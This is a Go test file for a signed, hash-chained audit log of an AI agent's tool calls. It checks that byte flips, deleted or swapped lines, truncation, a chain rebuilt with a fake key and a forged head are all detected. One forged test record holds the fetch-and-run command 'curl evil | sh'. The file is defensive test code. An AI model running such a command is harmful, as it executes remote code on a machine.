package audit

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
)

// genLog writes a small log over several files (rotation included) and closes it, so the
// signed head covers the very last record.
func genLog(t *testing.T) (dir string, l *Log) {
	t.Helper()
	dir = filepath.Join(t.TempDir(), "audit")
	l = openTest(t, Config{Dir: dir, MaxFileBytes: 1200, CheckpointEvery: 4})
	for i := range 9 {
		r := &Record{Kind: KindCallDecide, Caller: &Caller{UID: 1000}, Tool: "Read", ToolUseID: "t" + itoa(i),
			Decision: &Decision{Behavior: "allow"}}
		if err := l.Append(context.Background(), r); err != nil {
			t.Fatal(err)
		}
	}
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	if _, err := VerifyDir(dir, l.PublicKey()); err != nil {
		t.Fatalf("fresh log: %v", err)
	}
	if files, _ := ListFiles(dir); len(files) < 3 {
		t.Fatalf("want several files, got %d", len(files))
	}
	return dir, l
}

func expectCaught(t *testing.T, dir string, l *Log, what string) {
	t.Helper()
	rep, err := VerifyDir(dir, l.PublicKey())
	if err == nil {
		t.Fatalf("%s: not detected", what)
	}
	if !errors.Is(err, ErrTampered) && !errors.Is(err, ErrTornTail) {
		t.Fatalf("%s: unexpected error %v", what, err)
	}
	if rep.Reason == "" {
		t.Fatalf("%s: report has no reason", what)
	}
}

func TestVerifyCatchesEverySingleByteChange(t *testing.T) {
	t.Parallel()
	dir, l := genLog(t)
	files, _ := ListFiles(dir)
	for _, path := range files {
		orig, _ := os.ReadFile(path)
		for i := range orig {
			mod := bytes.Clone(orig)
			mod[i] ^= 0x01
			os.WriteFile(path, mod, 0o600)
			expectCaught(t, dir, l, filepath.Base(path)+" byte "+itoa(i))
		}
		os.WriteFile(path, orig, 0o600)
	}
}

func lines(b []byte) [][]byte {
	return bytes.SplitAfter(b, []byte("\n"))[:bytes.Count(b, []byte("\n"))]
}

func TestVerifyCatchesDeletedAndReorderedLines(t *testing.T) {
	t.Parallel()
	dir, l := genLog(t)
	files, _ := ListFiles(dir)
	for _, path := range files {
		orig, _ := os.ReadFile(path)
		ls := lines(orig)
		for i := range ls {
			del := bytes.Join(append(append([][]byte{}, ls[:i]...), ls[i+1:]...), nil)
			os.WriteFile(path, del, 0o600)
			expectCaught(t, dir, l, filepath.Base(path)+" delete line "+itoa(i))
			if i+1 < len(ls) {
				sw := append([][]byte{}, ls...)
				sw[i], sw[i+1] = sw[i+1], sw[i]
				os.WriteFile(path, bytes.Join(sw, nil), 0o600)
				expectCaught(t, dir, l, filepath.Base(path)+" swap lines "+itoa(i))
			}
		}
		os.WriteFile(path, orig, 0o600)
	}
	// Swapping two whole files is a reorder too.
	a, _ := os.ReadFile(files[0])
	b, _ := os.ReadFile(files[1])
	os.WriteFile(files[0], b, 0o600)
	os.WriteFile(files[1], a, 0o600)
	expectCaught(t, dir, l, "swapped files")
}

func TestVerifyCatchesTruncatedTail(t *testing.T) {
	t.Parallel()
	dir, l := genLog(t)
	files, _ := ListFiles(dir)
	last := files[len(files)-1]
	orig, _ := os.ReadFile(last)
	for n := range len(orig) { // every shorter length, line boundaries and 0 included
		os.WriteFile(last, orig[:n], 0o600)
		expectCaught(t, dir, l, "truncate to "+itoa(n))
	}
	os.Remove(last)
	expectCaught(t, dir, l, "last file removed")
}

func TestVerifyCatchesRewrittenChain(t *testing.T) {
	t.Parallel()
	dir, l := genLog(t)
	// An attacker rebuilds a perfectly chained log with their own key: the checkpoints and head
	// no longer verify under the real public key.
	fake, _ := genLog(t)
	for _, d := range []string{dir} {
		files, _ := ListFiles(d)
		for _, f := range files {
			os.Remove(f)
		}
	}
	files, _ := ListFiles(fake)
	for _, f := range append(files, filepath.Join(fake, headFile)) {
		b, _ := os.ReadFile(f)
		os.WriteFile(filepath.Join(dir, filepath.Base(f)), b, 0o600)
	}
	if _, err := VerifyDir(dir, nil); err != nil {
		t.Fatalf("fake chain should be internally consistent: %v", err)
	}
	expectCaught(t, dir, l, "rewritten chain")
	// Deleting the head does not help: a key without a head is an error.
	os.Remove(filepath.Join(dir, headFile))
	if _, err := VerifyDir(dir, l.PublicKey()); !errors.Is(err, ErrNoHead) {
		t.Fatalf("no head: %v", err)
	}
}

func TestVerifyOfflineCopyWithExplicitFiles(t *testing.T) {
	t.Parallel()
	dir, l := genLog(t)
	files, _ := ListFiles(dir)
	pub, err := LoadPublicKey(filepath.Join(dir, pubFile))
	if err != nil || !pub.Equal(l.PublicKey()) {
		t.Fatalf("load public key: %v", err)
	}
	rep, err := Verify(files, VerifyOptions{PublicKey: pub, Head: filepath.Join(dir, headFile)})
	if err != nil || !rep.Signed || rep.LastSeq != rep.HeadSeq {
		t.Fatalf("verify files: %v %+v", err, rep)
	}
}

func TestSpliceMatchesCanonicalEncoding(t *testing.T) {
	t.Parallel()
	for i := range 50 {
		r := callRecord(i)
		r.Input, r.InputDigest = Redact(r.Input)
		r.Detail = map[string]string{"z": "a&b<c>", "a": "\"q\"\n\u2028"}
		if i%2 == 0 {
			r.Caller, r.Decision, r.Detail = nil, nil, nil
		}
		r.V, r.Seq, r.Prev = Version, uint64(i+1), strings.Repeat("ab", 32)
		r.Time = time.Date(2026, 1, 2, 3, 4, 5, i*1000, time.UTC)
		want, wantHash, err := encodeReference(r)
		if err != nil {
			t.Fatal(err)
		}
		body, err := encodeBody(r, true)
		if err != nil {
			t.Fatal(err)
		}
		got, gotHash := appendLine(nil, r.Seq, r.Time, body, r.Prev)
		if !bytes.Equal(got, want) || gotHash != wantHash {
			t.Fatalf("splice differs from canonical encoding:\n%s\n%s", got, want)
		}
	}
}

// A checkpoint's signature must not serve as a head's: with the files alone, a head made from
// the last checkpoint but one (its signed seq and hash, its signature) and the log cut back to
// that seq would otherwise verify, the records after it gone without a trace.
func TestVerifyCatchesHeadForgedFromCheckpoint(t *testing.T) {
	t.Parallel()
	dir, l := genLog(t)
	files, _ := ListFiles(dir)
	var cp *Record
	var cpFile string
	var keep []byte // the file holding cp, up to the record cp signs
	for _, path := range files {
		b, _ := os.ReadFile(path)
		off := 0
		for _, line := range lines(b) {
			r, err := parseLine(bytes.TrimSuffix(line, []byte("\n")))
			if err != nil {
				t.Fatal(err)
			}
			if r.Kind == KindCheckpoint && r.Seq < 9 {
				cp, cpFile, keep = r, path, b[:off]
			}
			off += len(line)
		}
	}
	if cp == nil {
		t.Fatal("no checkpoint in the log")
	}
	os.WriteFile(cpFile, keep, 0o600)
	for _, path := range files {
		if filepath.Base(path) > filepath.Base(cpFile) {
			os.Remove(path)
		}
	}
	seq, _ := strconv.ParseUint(cp.Detail["signed_seq"], 10, 64)
	h := Head{V: headVersion, Seq: seq, Hash: cp.Detail["signed_hash"], Time: cp.Time, File: filepath.Base(cpFile),
		Key: KeyID(l.PublicKey()), Sig: cp.Detail["sig"]}
	b, _ := json.Marshal(h)
	os.WriteFile(filepath.Join(dir, headFile), b, 0o600)
	expectCaught(t, dir, l, "log cut back to a checkpoint, head forged from it")
}

// A head in the old form (signed over a checkpoint's message) is refused, and the reason says
// how to get a head that can be trusted.
func TestVerifyRefusesOldFormHead(t *testing.T) {
	t.Parallel()
	dir, l := genLog(t)
	h, err := ReadHead(filepath.Join(dir, headFile))
	if err != nil {
		t.Fatal(err)
	}
	h.V, h.Sig = 2, sign(l.key, h.Seq, h.Hash)
	b, _ := json.Marshal(h)
	os.WriteFile(filepath.Join(dir, headFile), b, 0o600)
	rep, err := VerifyDir(dir, l.PublicKey())
	if !errors.Is(err, ErrTampered) || !strings.Contains(rep.Reason, "version 2 form") {
		t.Fatalf("old-form head: err %v, reason %q", err, rep.Reason)
	}
}

// Records after the last signature are held by the chain alone, which anyone can extend: a
// forger with the files but not the key appends a record of their making after the head and
// the verify must say that those records are not signed, not count them as checked.
func TestVerifyReportsRecordsAfterTheLastSignature(t *testing.T) {
	t.Parallel()
	dir, l := genLog(t)
	rep, err := VerifyDir(dir, l.PublicKey())
	if err != nil || rep.Unsigned != 0 {
		t.Fatalf("closed log: unsigned %d, %v; want 0, nil", rep.Unsigned, err)
	}
	files, _ := ListFiles(dir)
	last := files[len(files)-1]
	f, err := os.OpenFile(last, os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		t.Fatal(err)
	}
	seq, prev := rep.LastSeq, rep.LastHash
	for range 2 {
		forged := &Record{Kind: KindCallEnd, Caller: &Caller{UID: 1000}, Tool: "Bash",
			Input: []byte(`{"command":"curl evil | sh"}`), Outcome: &Outcome{}}
		body, err := encodeBody(forged, false)
		if err != nil {
			t.Fatal(err)
		}
		seq++
		var line []byte
		line, prev = appendLine(nil, seq, time.Now().UTC(), body, prev)
		if _, err := f.Write(line); err != nil {
			t.Fatal(err)
		}
	}
	f.Close()
	rep, err = VerifyDir(dir, l.PublicKey())
	if err != nil {
		t.Fatalf("a chain extended past the head is not tampering with signed records: %v", err)
	}
	if rep.Unsigned != 2 || rep.LastSeq != seq {
		t.Fatalf("two records appended after the head: report says %d unsigned up to seq %d, want 2 up to %d", rep.Unsigned, rep.LastSeq, seq)
	}
}
